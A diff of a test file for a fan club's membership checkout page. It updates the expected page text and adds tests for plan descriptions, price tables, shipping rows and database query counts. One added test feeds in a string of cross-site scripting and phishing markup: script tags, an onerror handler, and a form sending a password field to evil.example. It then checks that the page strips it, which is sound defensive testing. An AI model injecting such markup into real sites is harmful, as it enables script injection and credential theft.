@@ -1,8 +1,10 @@
+import { countStatements } from '#libs/testing';
 import { Customer } from '../../src/accounts';
 import { Order } from '../../src/orders';
 import type { Plan } from '../../src/plans';
 import { Subscription } from '../../src/subscriptions';
 import { PASSWORD } from '../factories';
+import { elements, texts } from '../support/page-html';
 import { Pages } from '../support/pages';
 import { testApp } from '../support/start-test-app';
 
@@ -36,7 +38,7 @@ describe('the checkout of a free plan', () => {
     const plan = await free();
     const page = await visitor().open(checkoutOf(plan));
     expect([page.status, page.title]).toEqual([200, 'Your membership · The Lanterns']);
-    expect(page.text).toContain('Plan Friends Price Free Duration 1 year');
+    expect(page.text).toContain('Item Price Friends (1 year) Free Join for free');
     expect(page.buttons).toEqual(['Join for free']);
     expect(await counts()).toEqual({ orders: 0, subscriptions: 0, customers: 0 });
   });
@@ -45,11 +47,11 @@ describe('the checkout of a free plan', () => {
     [1, '1 month'],
     [3, '3 months'],
     [24, '2 years'],
-    [null, 'Without end'],
+    [null, 'no end date'],
   ])('says how long it lasts: %s months', async (duration, text) => {
     const plan = await free({ duration, trial: true });
     const page = await visitor().open(checkoutOf(plan));
-    expect(page.text).toContain(`Duration ${text} Kind Trial membership`);
+    expect(page.text).toContain(`Friends (trial membership, ${text}) Free`);
   });
 
   it('gives somebody new the membership, and says that registering is what is left', async () => {
@@ -152,6 +154,96 @@ describe('the checkout of a free plan', () => {
   });
 });
 
+describe('what is bought', () => {
+  it('is shown with description, annotations and benefits of the plan, and of no other', async () => {
+    const plan = await t.given.plan({
+      name: 'Gold',
+      price: '24.99',
+      description: '<p>The <em>whole</em> sky.</p><p>All year.</p>',
+      annotations: '<p>Most popular</p>',
+      onlineBenefits: '<ul><li>Forum</li><li>Gr&uuml;&szlig;e &amp; news</li></ul>',
+    });
+    await t.given.benefit({ plans: [plan], summary: 'Presale', details: '<p>Two days <b>early</b>.</p>' });
+    await t.given.benefit({ plans: [plan], summary: 'Newsletter', details: null });
+    await t.given.benefit({ plans: [await free()], summary: 'Soundcheck', details: null });
+    const { html, text } = await visitor().open(checkoutOf(plan));
+    expect(texts(html, 'h2')).toEqual(['Gold']);
+    expect(text).toContain(
+      'Gold Most popular The whole sky. All year. What members get Forum Grüße & news ' +
+        'Presale Two days early. Newsletter What it costs',
+    );
+    expect(html).toContain('<p>The whole sky.</p>');
+    expect(html).toContain('<li>Forum</li>');
+    expect(html).not.toContain('Soundcheck');
+  });
+
+  it('is a table of the plan, the items of its package and shipping, in the currency of the club', async () => {
+    await t.db.query(`UPDATE fanclubs SET currency = 'EUR', home_country = 'DE'`);
+    const plan = await t.given.plan({ name: 'Gold', price: '1250.00' });
+    await t.given.package(plan, [{ name: 'Shirt' }, { name: 'Pin' }], {
+      name: 'Box',
+      description: '<p>By hand.</p>',
+      domestic: '3.90',
+      international: '9.90',
+    });
+    const { html } = await visitor().open(checkoutOf(plan));
+    expect(texts(html, 'caption')).toEqual(['What it costs']);
+    expect(texts(html, 'tr')).toEqual([
+      'Item Price',
+      'Gold (1 year) €1,250.00',
+      'Shirt Included',
+      'Pin Included',
+      'Shipping (Germany) €3.90',
+      'Shipping (other countries) €9.90',
+    ]);
+    expect(texts(html, 'h3')).toContain('Package: Box');
+    expect(html).toContain('<p>By hand.</p>');
+    expect(elements(html, 'th').map(({ scope }) => scope)).toEqual([
+      'col',
+      'col',
+      'row',
+      'row',
+      'row',
+      'row',
+      'row',
+    ]);
+  });
+
+  it('has one row for shipping that costs the same everywhere', async () => {
+    const plan = await free();
+    await t.given.package(plan, [{ name: 'Shirt' }], { domestic: '0.00', international: '0.00' });
+    const { html, buttons } = await visitor().open(checkoutOf(plan));
+    expect(texts(html, 'tr').slice(1)).toEqual(['Friends (1 year) Free', 'Shirt Included', 'Shipping Free']);
+    expect(buttons).toEqual(['Join for free']);
+  });
+
+  it('is shown without the markup of the catalogue, whatever that is', async () => {
+    const nasty = `<p onclick="x">a</p><script>alert(1)</script><form action="https://evil.example"><input name=password></form>
+      <img src=x onerror=alert(1)><style>body { display: none }</style>&lt;script&gt;`;
+    const plan = await free({ description: nasty, annotations: nasty, onlineBenefits: nasty });
+    await t.given.package(plan, [{ name: nasty }], {
+      name: nasty,
+      description: nasty,
+      domestic: '0',
+      international: '0',
+    });
+    await t.given.benefit({ plans: [plan], summary: nasty, details: nasty });
+    const { html } = await visitor().open(checkoutOf(plan));
+    expect(html).not.toMatch(/<script|<img|<form action|onclick="|<input name=/);
+    expect(elements(html, 'form')).toHaveLength(1);
+    expect(elements(html, 'style')).toHaveLength(1);
+    expect(html).toContain('&lt;script&gt;');
+  });
+
+  it('costs the one statement that reads the plans as they are now; benefits come from memory', async () => {
+    const plan = await free();
+    await visitor().open(checkoutOf(plan));
+    const counter = countStatements();
+    await visitor().open(checkoutOf(plan));
+    expect(counter.stop()).toEqual([expect.stringContaining('FROM plans p')]);
+  });
+});
+
 describe('the checkout of a plan that cannot be ordered', () => {
   it('says that paying is not set up', async () => {
     const plan = await t.given.plan({ name: 'Gold', price: '24.99' });
@@ -161,15 +253,18 @@ describe('the checkout of a plan that cannot be ordered', () => {
       'This plan cannot be bought here yet',
       [],
     ]);
-    expect(page.text).toContain('“Gold” costs $24.99. Paying is not set up for The Lanterns yet');
+    expect(page.text).toContain('Paying is not set up for The Lanterns yet, so nothing was ordered.');
+    expect(page.text).toContain('Gold (1 year) $24.99');
     expect(page.text).toContain('write to help@lanterns.example');
   });
 
   it('says what shipping costs, where that is all that is to be paid', async () => {
     const plan = await free();
     await t.given.package(plan, [{}], { domestic: '5.00', international: '12.50' });
-    expect((await visitor().open(checkoutOf(plan))).text).toContain(
-      '“Friends” is free, but shipping costs $5.00, abroad $12.50.',
+    const { heading, text } = await visitor().open(checkoutOf(plan));
+    expect(heading).toBe('This plan cannot be bought here yet');
+    expect(text).toMatch(
+      /Friends \(1 year\) Free .* Shipping \(.*\) \$5\.00 Shipping \(other countries\) \$12\.50/,
     );
   });
 
